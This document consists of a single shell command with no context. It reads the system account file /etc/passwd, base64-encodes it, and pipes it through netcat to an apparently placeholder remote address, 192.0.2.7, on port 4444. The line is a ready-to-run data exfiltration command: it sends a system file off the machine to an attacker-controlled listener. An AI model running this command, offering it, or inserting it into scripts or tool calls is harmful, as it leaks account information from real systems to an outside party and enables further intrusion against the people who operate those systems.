cat /etc/passwd | base64 | nc 192.0.2.7 4444
